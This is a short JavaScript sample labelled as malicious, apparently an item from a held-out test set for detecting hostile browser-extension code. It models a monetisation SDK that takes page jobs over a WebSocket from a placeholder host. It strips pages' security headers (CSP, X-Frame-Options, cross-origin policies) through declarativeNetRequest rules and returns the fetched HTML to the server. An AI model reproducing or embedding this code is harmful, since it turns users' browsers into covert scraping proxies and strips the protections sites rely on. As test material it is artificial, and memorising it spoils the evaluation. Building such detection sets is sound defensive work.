// expect: malicious
// source: twentieth held-out set (an extension monetisation SDK, after Mellowtel: its server sends page jobs over a
// WebSocket, and a session declarativeNetRequest rule strips the page's security headers so it loads in a hidden frame)
const STRIP = [
  { header: 'content-security-policy', operation: 'remove' },
  { header: 'x-frame-options', operation: 'remove' },
  { header: 'cross-origin-opener-policy', operation: 'remove' },
  { header: 'cross-origin-embedder-policy', operation: 'remove' }
];

async function unlock(url, id) {
  await chrome.declarativeNetRequest.updateSessionRules({
    removeRuleIds: [id],
    addRules: [{ id, action: { type: 'modifyHeaders', responseHeaders: STRIP },
      condition: { requestDomains: [new URL(url).hostname], resourceTypes: ['sub_frame', 'main_frame'] } }]
  });
}

export function init(key) {
  const ws = new WebSocket('wss://node.idle-rewards.example/ws?k=' + encodeURIComponent(key));
  ws.onmessage = async (e) => {
    const job = JSON.parse(e.data);
    await unlock(job.url, job.id);
    const html = await chrome.runtime.sendMessage({ load: job.url });
    ws.send(JSON.stringify({ id: job.id, html }));
  };
}
